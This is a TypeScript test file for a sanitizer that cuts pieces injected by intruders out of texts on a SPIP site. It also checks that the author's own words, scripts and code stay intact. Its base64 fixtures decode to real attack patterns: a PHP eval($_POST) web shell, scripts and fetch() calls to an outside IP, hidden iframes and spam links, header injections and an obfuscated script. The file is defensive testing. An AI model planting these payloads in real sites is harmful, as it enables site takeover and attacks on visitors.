import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cutText } from './cut-text.ts'
import { isCounted } from './grades.ts'
import type { TextContext } from './text.ts'

const context: TextContext = { kind: 'text', hosts: ['www.ville.fr'], codeIsShown: true }
const text = (base64: string): string => Buffer.from(base64, 'base64').toString('utf8')
const cut = (value: string, more: Partial<TextContext> = {}): { text: string; left: number } => {
  const { text: after, left } = cutText(value, { ...context, ...more }, ({ grade }) => isCounted(grade))
  return { text: after, left: left.length }
}

/** Pieces intruders put into texts, and what is left of each: nothing, unless it is said. Base64, and nothing of it does anything. */
const PIECES: readonly (readonly [name: string, base64: string, left?: string])[] = [
  ['a script from elsewhere', 'PHNjcmlwdCBzcmM9Imh0dHA6Ly8xODUuMTIuNy45L2EuanMiPjwvc2NyaXB0Pg=='],
  ['a script with spaces in the tag that ends it', 'PFNDUklQVCBzcmM9Ly8xODUuMTIuNy45L2EuanM+IDwvU2NyaXB0IAo+'],
  ['PHP', 'PD9waHAgZXhpdDsgZXZhbCgkX1BPU1RbImMiXSk7ID8+'],
  ['PHP with a mark of its end in a text', 'PD9waHAgZXhpdDsgZXZhbCgkX1BPU1RbImMiXSk7IGVjaG8gIj8+IjsgPz4='],
  ['a frame of one pixel', 'PGlmcmFtZSBzcmM9Imh0dHBzOi8vdy5ldmlsLmV4YW1wbGUvIiB3aWR0aD0iMSIgaGVpZ2h0PSIxIj48L2lmcmFtZT4='],
  ['a frame with words for old browsers', 'PGlmcmFtZSBzcmM9Imh0dHBzOi8vdy5ldmlsLmV4YW1wbGUvIiB3aWR0aD0xPm5vIGZyYW1lczwvaWZyYW1lPg=='],
  ['an image of nothing that runs something', 'PGltZyBzcmM9eCBvbmVycm9yPSJmZXRjaCgnLy8xODUuMTIuNy45L2MnKSI+'],
  [
    'something that runs, on an image of the author’s',
    'PGltZyBzcmM9IklNRy9qcGcvYS5qcGciIG9uZXJyb3I9ImZldGNoKCcvLzE4NS4xMi43LjkvYycpIiBhbHQ9ImEiPg==',
    'PGltZyBzcmM9IklNRy9qcGcvYS5qcGciIGFsdD0iYSI+',
  ],
  [
    'hidden links',
    'PGRpdiBzdHlsZT0icG9zaXRpb246YWJzb2x1dGU7bGVmdDotOTk5OXB4Ij48YSBocmVmPSJodHRwczovL2NoZWFwLXBpbGxzLmV4YW1wbGUvIj5idXkgdmlhZ3JhPC9hPiA8YSBocmVmPSJodHRwczovL3Nsb3RzLmV4YW1wbGUvIj5zbG90czwvYT48L2Rpdj4=',
  ],
  [
    'links put into what the author hides',
    'PGRpdiBzdHlsZT0iZGlzcGxheTpub25lIj5Db25zaWduZXMgYXV4IHLDqWRhY3RldXJzIDogcmVsaXNleiwgcHVpcyBkZW1hbmRleiDDoCB2b3RyZSB2b2lzaW4gZGUgYnVyZWF1IGRlIHJlbGlyZSBlbmNvcmUgdW5lIGZvaXMuIDxhIGhyZWY9Imh0dHBzOi8vcGlsbHMuZXhhbXBsZS8iPnZpYWdyYTwvYT48L2Rpdj4=',
    'PGRpdiBzdHlsZT0iZGlzcGxheTpub25lIj5Db25zaWduZXMgYXV4IHLDqWRhY3RldXJzIDogcmVsaXNleiwgcHVpcyBkZW1hbmRleiDDoCB2b3RyZSB2b2lzaW4gZGUgYnVyZWF1IGRlIHJlbGlyZSBlbmNvcmUgdW5lIGZvaXMuIDwvZGl2Pg==',
  ],
  ['a header that has SPIP run its pages', 'I0hUVFBfSEVBREVSe1gtU3BpcC1GaWx0cmU6IHh4fQ=='],
  ['the same by PHP', 'PD9waHAgaGVhZGVyKCJYLVNwaXAtRmlsdHJlOiB4eCIpOyA/Pg=='],
]

/** What authors write: marks of SPIP, of HTML, other alphabets, their own scripts. */
const OWN = fc
  .stringMatching(/^[a-zéèœ«» .,;:!'\n\r\t\\/{}[\]()=&#|*-]{0,30}$/)
  .map((words) => words.replaceAll(/\bon\w+\s*=|style\s*=/g, ''))

describe('cutting', () => {
  it.each(PIECES.map(([name, base64, rest = '']) => ({ name, base64, rest })))(
    '$name: it goes, and every other character stays',
    ({ base64, rest }) => {
      fc.assert(
        fc.property(OWN, OWN, (before, after) => {
          const [head, tail] = [`${before}\n\n`, `\n\n${after}`]
          expect(cut(`${head}${text(base64)}${tail}`)).toEqual({ text: `${head}${text(rest)}${tail}`, left: 0 })
        }),
        { numRuns: 15 },
      )
    },
  )

  it('cuts many pieces out of one text, however they were mixed', () => {
    const pieces = PIECES.flatMap(([, base64, rest]) => (rest === undefined ? [text(base64)] : []))
    fc.assert(
      fc.property(fc.array(fc.tuple(OWN, fc.constantFrom(...pieces)), { maxLength: 12 }), OWN, (parts, tail) => {
        const value = parts.map(([own, piece]) => `${own}\n${piece}\n`).join('') + tail
        const kept = parts.map(([own]) => `${own}\n\n`).join('') + tail
        expect(cut(value)).toEqual({ text: kept, left: 0 })
      }),
      { numRuns: 25 },
    )
  })

  it('cuts what cutting puts together', () => {
    const php = text('PD9waHAgZXhpdDsgZXZhbCgkX1BPU1RbImMiXSk7ID8+')
    expect(cut(`a <scr${php}ipt src="http://185.12.7.9/b.js"></script> b`)).toEqual({ text: 'a  b', left: 0 })
  })

  it.each([
    // PHP that has no end, and the author’s words behind it.
    ['PD9waHAgZXhpdDsgZXZhbCgkX1BPU1RbImMiXSk7IFZvaWNpIGxhIHN1aXRlIGRlIGwnYXJ0aWNsZS4='],
    ['PD9waHAgZXhpdDsgZXZhbCgkX1BPU1RbImMiXSk7CgpTdWl0ZSA7'],
    // A packed script that has no end.
    [
      'PHNjcmlwdD52YXIgXzB4MWEyYj1bJ3gnXTsoZnVuY3Rpb24oXzB4MzNhYSxfMHg0NGJiKXt2YXIgXzB4NTVjYz1fMHgzM2FhW18weDQ0YmJdO18weDY2ZGQoXzB4NzdlZSxfMHg4OGZmKX0pIHN1aXRl',
    ],
    // A line about a header, in no code.
    ['TCdlbi10w6p0ZSBYLVNwaXAtRmlsdHJlOiBhc3NlcnQgc2VydCBhdXggcGlyYXRlcw=='],
    // A tag that never ends.
    ['PGlmcmFtZSB3aWR0aD0xIHNyYz0iaHR0cHM6Ly93LmV2aWwuZXhhbXBsZS8gc3VpdGUgZGUgbCdhcnRpY2xl'],
  ])('leaves and tells what has no certain end: %s', (base64) => {
    const value = text(base64)
    expect(cut(value)).toEqual({ text: value, left: 1 })
  })

  it('takes PHP without an end to the end of its text, where only code follows', () => {
    expect(cut(`Titre ${text('PD9waHAgZXhpdDsgaWYgKGlzc2V0KCRfUE9TVFsiYyJdKSkgZXZhbCgkX1BPU1RbImMiXSk7')}`)).toEqual({
      text: 'Titre ',
      left: 0,
    })
  })

  it('gives the author back what a script that has no end had taken in', () => {
    const script = text('PHNjcmlwdCBzcmM9Imh0dHA6Ly8xODUuMTIuNy45L2EuanMiPg==')
    expect(cut(`Avant. ${script} Après.`)).toEqual({ text: 'Avant.  Après.', left: 0 })
  })

  it('touches nothing of what is the site’s, shown as code, or in doubt', () => {
    const own = [
      '<script src="https://www.ville.fr/a.js"></script>',
      `<code>${text('PD9waHAgZXZhbCgkX1BPU1RbImMiXSk7ID8+')}</code>`,
      '<iframe src="https://www.youtube.com/embed/1" width="560"></iframe>',
      '<script>document.title = "x"</script>',
      '<script src="https://stats.exemple.org/c.js"></script>',
    ].join('\n')
    expect(cut(own)).toEqual({ text: own, left: 0 })
  })

  it('cuts inside JSON and slashed text without hurting either', () => {
    const script = '<script src="http://185.12.7.9/a.js"></script>'
    const json = JSON.stringify([{ html: `<p>été</p>${script}<p>"fin"</p>` }]).replaceAll('/', '\\/')
    const { text: after, left } = cut(json, { codeIsShown: false })
    expect([JSON.parse(after), left]).toEqual([[{ html: '<p>été</p><p>"fin"</p>' }], 0])
    const unicode = json.replaceAll('<', '\\u003c').replaceAll('>', '\\u003E')
    expect(JSON.parse(cut(unicode, { codeIsShown: false }).text)).toEqual([{ html: '<p>été</p><p>"fin"</p>' }])
  })

  it('bears values made to keep it busy', () => {
    const programs = text('PD9waHAgZXhpdDsgZXZhbCgkX1BPU1RbImMiXSk7ID8+').repeat(8000)
    expect(cut(programs)).toEqual({ text: '', left: 0 })
    const packed = `${text('UEQ5d2FIQQ==')}${'A'.repeat(400_000)}`
    expect(cut(`${packed}!${'A'.repeat(20)}`, { kind: 'setting', codeIsShown: false })).toEqual({ text: `!${'A'.repeat(20)}`, left: 0 })
    const open = '<div style="display:none"><a href="//x.example/viagra">'.repeat(5000)
    expect(cut(open)).toEqual({ text: open, left: 1 })
  })
})
